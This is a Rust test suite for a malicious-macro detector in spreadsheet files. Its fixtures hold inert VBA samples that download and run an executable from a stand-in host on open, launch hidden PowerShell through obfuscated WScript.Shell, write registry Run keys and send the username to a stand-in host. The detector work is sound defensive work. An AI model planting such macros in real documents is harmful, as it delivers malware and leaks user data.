//! Sources that mean harm, and sources that only look so. Inert texts: nothing here is run, and every address is an example.

use super::making::{Kind, Source, judged};
use workbook::inspect::{Inspection, Verdict, When};

fn codes(inspection: &Inspection) -> Vec<&str> {
    let mut codes: Vec<&str> = inspection.modules.iter().flat_map(|m| &m.calls).map(|c| c.code.as_str()).collect();
    codes.sort_unstable();
    codes.dedup();
    codes
}

fn standard(source: &str) -> Inspection {
    judged(&[("Module1", Kind::Standard, source)])
}

fn expect(sources: &[Source<'_>], verdict: Verdict, found: &[&str]) -> Inspection {
    let inspection = judged(sources);
    let codes = codes(&inspection);
    assert_eq!(inspection.verdict, verdict, "{:#?}\n{codes:?}", inspection.reasons);
    for code in found {
        assert!(codes.contains(code), "{code} not in {codes:?}");
    }
    inspection
}

#[test]
fn a_download_that_is_started_is_dangerous() {
    let source = "Private Declare PtrSafe Function dl Lib \"urlmon\" Alias \"URLDownloadToFileA\" (ByVal c As Long, ByVal u As String, \
        ByVal f As String, ByVal r As Long, ByVal s As Long) As Long\n\
        Sub Auto_Open()\n  dl 0, \"http://a.example/x.exe\", Environ(\"TEMP\") & \"\\x.exe\", 0, 0\n  Shell Environ(\"TEMP\") & \"\\x.exe\", vbHide\nEnd Sub";
    let found = expect(
        &[("Module1", Kind::Standard, source)],
        Verdict::Dangerous,
        &["downloads-file", "starts-program", "reads-environment"],
    );
    let shell = found.modules[0].calls.iter().find(|c| c.code == "starts-program").unwrap();
    assert_eq!((shell.line, shell.when, shell.reachable, shell.unseen), (4, Some(When::Open), true, true));
    assert_eq!(shell.procedure, "Auto_Open");
    assert!(shell.text.starts_with("Shell Environ"));
    assert!(found.reasons.iter().any(|r| r.code == "fetches-and-runs"));
    assert_eq!(found.exit, 1);
}

#[test]
fn two_libraries_under_one_name_are_told_apart_by_module() {
    let declare = |library: &str, function: &str| {
        format!(
            "Private Declare Function f Lib \"{library}\" Alias \"{function}\" (ByVal a As Long) As Long\nSub A()\nf 1\nEnd Sub\n"
        )
    };
    let found = judged(&[
        ("M", Kind::Standard, &(declare("urlmon", "URLDownloadToFileA") + "Sub Auto_Open()\nA\nEnd Sub")),
        ("N", Kind::Standard, &declare("kernel32", "Sleep")),
    ]);
    assert_eq!(found.verdict, Verdict::Dangerous, "{:#?}", found.modules);
    assert_eq!(found.modules[0].calls[0].code, "downloads-file");
    assert_eq!(found.modules[1].calls[0].code, "other-library");
}

#[test]
fn a_reversed_text_that_starts_a_command_host_is_dangerous() {
    let source = "Sub Workbook_Open()\n Dim o, c\n c = StrReverse(\"neddih w- llehsrewop\")\n\
        Set o = CreateObject(\"WScr\" & \"ipt.Sh\" & \"ell\")\n o.Run c, 0\nEnd Sub";
    let sources = [("ThisWorkbook", Kind::Workbook, source)];
    let found = expect(&sources, Verdict::Dangerous, &["hidden-text", "starts-program", "wscript-shell"]);
    let hidden: Vec<&str> =
        found.modules[0].calls.iter().filter(|c| c.code == "hidden-text").map(|c| c.argument.as_str()).collect();
    assert_eq!(hidden, ["powershell -w hidden", "WScript.Shell"]);
    let run = found.modules[0].calls.iter().find(|c| c.code == "starts-program").unwrap();
    assert_eq!(run.argument, "powershell -w hidden");
}

#[test]
fn a_program_started_through_windows_management_is_dangerous() {
    let source = "Sub AutoStart()\n Set w = GetObject(\"winmgmts:\\\\.\\root\\cimv2\")\n Set p = w.Get(\"Win32_Process\")\n\
        p.Create \"cmd.exe /c echo\", Null, Null, id\nEnd Sub\nSub Auto_Close()\n AutoStart\nEnd Sub";
    let found = expect(&[("M", Kind::Standard, source)], Verdict::Dangerous, &["wmi", "starts-by-wmi", "command-host"]);
    let start = found.modules[0].calls.iter().find(|c| c.code == "starts-by-wmi").unwrap();
    assert_eq!(start.when, Some(When::Close));
}

#[test]
fn harm_in_many_dresses_is_never_called_harmless() {
    let opened = |body: &str| format!("Sub Auto_Open()\n{body}\nEnd Sub");
    let dangerous = [
        "VBA.Shell \"calc.exe\"",
        "[Shell] \"calc.exe\"",
        "If True Then Shell \"calc.exe\" Else Beep",
        "x = Shell( _\n \"calc.exe\", 1)",
        "Call Shell(\"calc.exe\")",
        "With CreateObject(\"WScript.Shell\")\n .Exec \"calc.exe\"\nEnd With",
        "CreateObject(\"Wscript.shell\").Run \"calc.exe\", 0, False",
        "CreateObject(Chr(87) & Chr(83) & Chr(99) & Chr(114) & Chr(105) & Chr(112) & Chr(116) & \".Shell\").Run x",
        "CreateObject(decode(\"0a1b\")).Run decode(\"x\")",
        "Dim s As New WshShell\ns.Run \"calc.exe\"",
        "GetObject(\"new:72C24DD5-D70A-438B-8A42-98424B88AFB8\").Run \"calc.exe\"",
        "GetObject(\"script:http://a.example/x.sct\")",
        "CreateObject(\"Shell.Application\").ShellExecute \"calc.exe\"",
        "ExecuteExcel4Macro \"EXEC(\"\"calc.exe\"\")\"",
        "Application.ExecuteExcel4Macro \"CALL(\"\"urlmon\"\",\"\"x\"\")\"",
        "Open \"C:\\Users\\Public\\x.vbs\" For Output As #1\nPrint #1, \"x\"\nClose #1",
        "CreateObject(\"WScript.Shell\").RegWrite \"HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\x\", \"y\"",
        "Application.AutomationSecurity = msoAutomationSecurityLow",
        "ThisWorkbook.VBProject.VBComponents.Add(1).CodeModule.AddFromString s",
        "c = DDEInitiate(\"cmd\", \"/c calc\")",
        "Range(\"A1\").Formula = \"=cmd|'/c calc'!A1\"",
        "Set x = CreateObject(\"MSXML2.XMLHTTP\")\nx.Open \"GET\", \"http://a.example\", False\nx.Send Environ(\"USERNAME\")",
        "Set s = CreateObject(\"ADODB.Stream\")\nSet x = CreateObject(\"MSXML2.ServerXMLHTTP\")\ns.SaveToFile p, 2",
        "CreateObject(turn(\"llehS.tpircSW\")).Run decode(\"706f7765727368656c6c\")",
        "a = \"W\"\na = a & \"Script\"\na = a & \".Shell\"\nCreateObject(a).Run x",
    ];
    for body in dangerous {
        let found = standard(&opened(body));
        assert_eq!(found.verdict, Verdict::Dangerous, "{body}\n{:#?}\n{:#?}", found.reasons, found.modules[0].calls);
    }
    let suspicious = [
        "Workbooks.Open \"\\\\server\\share\\b.xls\"",
        "ActiveWorkbook.FollowHyperlink \"http://a.example\"",
        "ActiveSheet.QueryTables.Add \"URL;http://a.example\", Range(\"A1\")",
        "Kill \"C:\\x.txt\"",
        "Open \"C:\\x.txt\" For Input As #1",
        "ActiveWorkbook.SaveAs \"C:\\x.xlsx\"",
        "ActiveWorkbook.SendMail \"a@b.example\"",
        "Set o = CreateObject(\"Outlook.Application\")\nSet m = o.CreateItem(0)\nm.Send",
        "Shell \"explorer.exe \" & ThisWorkbook.Path, vbNormalFocus",
        "Dim c As New ADODB.Connection",
        "SendKeys \"%{F4}\"",
        "For i = 1 To Len(s)\nr = r & Chr(Asc(Mid(s, i, 1)) Xor 9)\nNext",
        "x = \"power\" & \"shell\"",
        "CallByName o, n, VbMethod",
        "x = decode(\"cG93ZXJzaGVsbA==\")",
        "x = turn(\"llehS.tpircSW\")",
        "Set q = GetObject(\"winmgmts:\").ExecQuery(\"SELECT * FROM Win32_BIOS\")",
    ];
    for body in suspicious {
        let found = standard(&opened(body));
        assert_eq!(found.verdict, Verdict::Suspicious, "{body}\n{:#?}\n{:#?}", found.reasons, found.modules[0].calls);
    }
}

#[test]
fn words_that_only_look_like_calls_are_none() {
    let harmless = [
        "MsgBox \"Shell \"\"calc.exe\"\" or powershell http://a.example\"",
        "' Shell \"calc.exe\"\nRem CreateObject(\"WScript.Shell\").Run x",
        "Dim shell As String\nshell = \"a\"\nx = shell & \"b\"",
        "Dim open_ As Long\nopen_ = 1\nRange(\"A1\").Value = \"Kill\"",
        "t = a & Chr(10) & b & vbCrLf & Chr(34)",
        "Range(\"A1\").Select\nActiveCell.FormulaR1C1 = \"123\"",
        "Name = \"x\"\nActiveSheet.Name = \"Form\"",
        "x = Replace(\"a,b\", \",\", \";\")\ny = Left(\"abc\", 2) & Right(\"def\", 1)",
        "Debug.Print \"cmd.exe\"\nApplication.StatusBar = \"http://a.example\"",
        "f Environ:=1, Shell:=2",
        "Sheet1.CheckBoxes(a(i)).Value = 1\nActiveSheet.Protect",
        "Err.Raise 5, , \"powershell\"",
        "Application.Run \"Other\"",
        "x = \"deadbeef0123456789\"",
        "v = \"Provider\" & \"s: 3\"",
    ];
    for body in harmless {
        let found = standard(&format!("Sub Auto_Open()\n{body}\nEnd Sub\nSub Other()\nEnd Sub"));
        assert_eq!(found.verdict, Verdict::RunsHarmless, "{body}\n{:#?}\n{:#?}", found.reasons, found.modules[0].calls);
        let heavy: Vec<_> = found.modules[0].calls.iter().filter(|c| c.code != "runs-named-macro").collect();
        assert!(heavy.is_empty(), "{body}: {heavy:?}");
    }
    // A project's own procedures of such names are its own.
    let own = standard("Sub Auto_Open()\n Shell \"x\"\n Kill 1\nEnd Sub\nSub Shell(a)\nEnd Sub\nSub Kill(a)\nEnd Sub");
    assert_eq!(own.verdict, Verdict::RunsHarmless);
    // But those of others that cannot be called by the bare name hide nothing.
    for (kind, declared) in [(Kind::Standard, "Private Sub Shell(a)"), (Kind::Class, "Public Sub Shell(a)")] {
        let other = format!("{declared}\nEnd Sub");
        let opens = "Sub Auto_Open()\n Shell \"calc.exe\"\nEnd Sub";
        let found = judged(&[("M", Kind::Standard, opens), ("N", kind, &other)]);
        assert_eq!(found.verdict, Verdict::Dangerous);
    }
    // A class with a Run method is no script shell.
    let class = judged(&[
        ("Module1", Kind::Standard, "Sub Auto_Open()\n Dim j As New Job\n j.Run \"x\"\nEnd Sub"),
        ("Job", Kind::Class, "Public Sub Run(x)\nEnd Sub"),
    ]);
    assert_eq!(class.verdict, Verdict::RunsHarmless, "{:#?}", class.reasons);
}

#[test]
fn what_starts_depends_on_where_it_stands() {
    let starts = |kind, procedure: &str| {
        let found = judged(&[("M", kind, &format!("Private Sub {procedure}\nEnd Sub"))]);
        found.modules[0].autoexec.first().map(|a| (a.when, a.starts))
    };
    assert_eq!(starts(Kind::Standard, "Auto_Open()"), Some((When::Open, true)));
    assert_eq!(starts(Kind::Workbook, "Auto_Open()"), Some((When::Open, false)));
    assert_eq!(starts(Kind::Workbook, "Workbook_Open()"), Some((When::Open, true)));
    assert_eq!(starts(Kind::Standard, "Workbook_Open()"), Some((When::Open, false)));
    assert_eq!(starts(Kind::Sheet, "Workbook_Open()"), Some((When::Open, false)));
    assert_eq!(starts(Kind::Workbook, "Workbook_BeforeClose(Cancel As Boolean)"), Some((When::Close, true)));
    assert_eq!(starts(Kind::Sheet, "Worksheet_Change(ByVal Target As Range)"), Some((When::Act, true)));
    assert_eq!(starts(Kind::Sheet, "CommandButton1_Click()"), Some((When::Click, true)));
    assert_eq!(starts(Kind::Sheet, "InkPicture1_Painted(ByVal h As Long)"), Some((When::Open, true)));
    assert_eq!(starts(Kind::Standard, "Button1_Click()"), None);
    assert_eq!(starts(Kind::Standard, "AutoOpen()"), Some((When::Open, false)), "a name of Word's");
    assert_eq!(starts(Kind::Standard, "Auto_Open(x)"), Some((When::Open, false)));
    assert_eq!(starts(Kind::Standard, "onLoad(r As IRibbonUI)"), Some((When::Open, false)), "without a ribbon");
    let key = judged(&[("M", Kind::Standard, "Sub K()\nAttribute K.VB_ProcData.VB_Invoke_Func = \"q\\n14\"\nEnd Sub")]);
    assert_eq!(key.modules[0].autoexec[0].when, When::Click);
    let events = "Private WithEvents App As Application\nPrivate Sub App_WorkbookOpen(ByVal Wb As Workbook)\nEnd Sub";
    assert_eq!(judged(&[("C", Kind::Class, events)]).modules[0].autoexec[0].when, When::Act);
}

#[test]
fn a_call_is_followed_to_what_starts_it() {
    let when = |sources: &[Source<'_>]| {
        let found = judged(sources);
        let call = found.modules.iter().flat_map(|m| &m.calls).find(|c| c.code == "starts-program").cloned();
        let call = call.unwrap();
        assert_eq!(call.reachable, call.when.is_some_and(|w| w != When::Cell));
        call.when
    };
    let acts = "Sub A()\n Shell \"calc.exe\"\nEnd Sub";
    let standard = |source: &str| when(&[("M", Kind::Standard, &format!("{acts}\n{source}"))]);
    assert_eq!(standard(""), None);
    assert_eq!(standard("Sub Auto_Open()\n B\nEnd Sub\nSub B()\n Call A\nEnd Sub"), Some(When::Open));
    assert_eq!(standard("Sub Auto_Open()\n Application.OnTime Now, \"A\"\nEnd Sub"), Some(When::Open));
    assert_eq!(standard("Sub Auto_Open()\n Application.OnTime Now, \"'b.xls'!M.A\"\nEnd Sub"), Some(When::Open));
    assert_eq!(standard("Sub Auto_Open()\n Range(\"A1\").Formula = \"=A()\"\nEnd Sub"), Some(When::Open));
    assert_eq!(standard("Sub Auto_Open()\n Application.Run \"M\" & \".A\"\nEnd Sub"), Some(When::Open));
    assert_eq!(standard("Sub Auto_Open()\n ' A\n MsgBox \"call A\"\nEnd Sub"), None);
    assert_eq!(standard("Public Function F()\n A\nEnd Function"), Some(When::Cell));
    assert_eq!(standard("Private Function F()\n A\nEnd Function"), None);
    let book = ("ThisWorkbook", Kind::Workbook, "Private Sub Workbook_BeforeClose(C As Boolean)\n M.A\nEnd Sub");
    assert_eq!(when(&[book, ("M", Kind::Standard, acts)]), Some(When::Close));
    // A form that opening brings up, and a button on it.
    let form = ("Form1", Kind::Form, "Private Sub Go_Click()\n A\nEnd Sub\nPrivate Sub UserForm_Initialize()\nEnd Sub");
    let opens = ("N", Kind::Standard, "Sub Auto_Open()\n Form1.Show\nEnd Sub");
    assert_eq!(when(&[form, opens, ("M", Kind::Standard, acts)]), Some(When::Click));
    assert_eq!(when(&[form, ("M", Kind::Standard, acts)]), None);
    let loads = ("Form1", Kind::Form, "Private Sub UserForm_Initialize()\n A\nEnd Sub");
    assert_eq!(when(&[loads, opens, ("M", Kind::Standard, acts)]), Some(When::Open));
    let class = ("C", Kind::Class, "Private Sub Class_Initialize()\n A\nEnd Sub");
    let makes = ("N", Kind::Standard, "Sub Auto_Open()\n Dim x As New C\nEnd Sub");
    assert_eq!(when(&[class, makes, ("M", Kind::Standard, acts)]), Some(When::Open));
    // The nearer procedure of two with one name is meant.
    let other = ("N", Kind::Standard, "Sub Auto_Open()\n A\nEnd Sub\nSub A()\nEnd Sub");
    assert_eq!(when(&[other, ("M", Kind::Standard, acts)]), None);
}

#[test]
fn a_click_that_the_form_asks_for_is_weighed_by_what_it_hides() {
    let click =
        |body: &str| judged(&[("Sheet1", Kind::Sheet, &format!("Private Sub Go_Click()\n{body}\nEnd Sub"))]).verdict;
    assert_eq!(click("Shell \"calc.exe\", vbHide"), Verdict::Dangerous);
    assert_eq!(click("Shell \"cmd.exe /c del x\""), Verdict::Dangerous);
    assert_eq!(click("Shell \"calc.exe\", vbNormalFocus"), Verdict::Suspicious);
    assert_eq!(click("ActiveWorkbook.SaveAs \"x.xlsx\""), Verdict::RunsHarmless);
    assert_eq!(click("ActiveWorkbook.SendMail \"a@b.example\""), Verdict::RunsHarmless);
}

#[test]
fn what_it_would_reveal_is_told_apart_from_the_verdict() {
    let found = standard("Sub Auto_Open()\n Range(\"A1\") = Application.UserName & Environ(\"COMPUTERNAME\")\nEnd Sub");
    assert_eq!(found.verdict, Verdict::RunsHarmless, "{:#?}", found.reasons);
    let told: Vec<_> = found.reveals.iter().map(|r| (r.code.as_str(), r.place.as_str(), r.target.as_str())).collect();
    assert_eq!(told, [("environment", "Module1 2", "COMPUTERNAME"), ("user", "Module1 2", "")]);
}

/// An open document with a module of Basic; its text is escaped as LibreOffice does.
fn open_document(source: &str) -> Vec<u8> {
    let escaped = source.replace('&', "&amp;").replace('<', "&lt;").replace('"', "&quot;");
    let module = format!(
        "<?xml version=\"1.0\"?><script:module script:name=\"Module1\" script:language=\"StarBasic\">{escaped}</script:module>"
    );
    super::making::zip(&[
        ("content.xml", b"<office:document-content/>"),
        ("Basic/Standard/script-lb.xml", b"<library:library/>"),
        ("Basic/Standard/Module1.xml", module.as_bytes()),
    ])
}

#[test]
fn basic_of_an_open_document_is_followed_from_its_events() {
    use workbook::sheets::{Container, Link, LinkKind};
    let source = "Sub Main\n  Shell(\"calc\" & \".exe\", 2)\nEnd Sub\nSub Auto_Open\n  Main\nEnd Sub";
    let inspect = |kind, target: &str| {
        let mut survey = super::making::survey(Container::Ods);
        survey.links = vec![Link { kind, part: "content.xml".to_owned(), target: target.to_owned(), carried: None }];
        workbook::inspect::inspect(&open_document(source), Some("a.ods"), Ok(&survey))
    };
    let href = "vnd.sun.star.script:Standard.Module1.Main?language=Basic&location=document";
    let opened = inspect(LinkKind::Event, &format!("dom:load {href}"));
    assert_eq!(opened.verdict, Verdict::Dangerous, "{:#?}", opened.reasons);
    assert_eq!(opened.modules[0].place, "Basic/Standard");
    assert_eq!((opened.modules[0].calls[0].line, opened.modules[0].calls[0].argument.as_str()), (2, "calc.exe"));
    // By itself it does not start: Auto_Open means nothing there.
    assert_eq!(inspect(LinkKind::Hyperlink, "x").verdict, Verdict::Suspicious);
    let clicked = inspect(LinkKind::MacroButton, &format!("dom:click {href}"));
    assert_eq!(clicked.modules[0].calls[0].when, Some(When::Click));
    let elsewhere = "dom:load vnd.sun.star.script:x.py$main?language=Python&location=user";
    assert!(inspect(LinkKind::Event, elsewhere).reasons.iter().any(|r| r.code == "event-unread"));
}

#[test]
fn the_call_backs_of_a_ribbon_start_what_they_name() {
    use workbook::sheets::{Container, Link, LinkKind};
    let source = [(
        "M",
        Kind::Standard,
        "Sub Loaded(r As IRibbonUI)\n Shell \"calc.exe\"\nEnd Sub\nSub Go(c As IRibbonControl)\nEnd Sub",
    )];
    assert_eq!(judged(&source).modules[0].calls[0].when, None);
    let mut survey = super::making::survey(Container::Xlsm);
    survey.links = vec![Link {
        kind: LinkKind::Ribbon,
        part: "customUI/customUI.xml".to_owned(),
        target: "onLoad=Loaded".to_owned(),
        carried: None,
    }];
    let known = workbook::inspect::Knowledge::built_in().unwrap();
    let started = [workbook::inspect::Started { name: "Loaded".to_owned(), when: When::Open }];
    let found = workbook::inspect::analyse(known, &super::making::project(&source), &started, true, &["excel"]);
    assert_eq!(found.modules[0].calls[0].when, Some(When::Open));
    assert_eq!(found.modules[0].autoexec[1].when, When::Click);
}
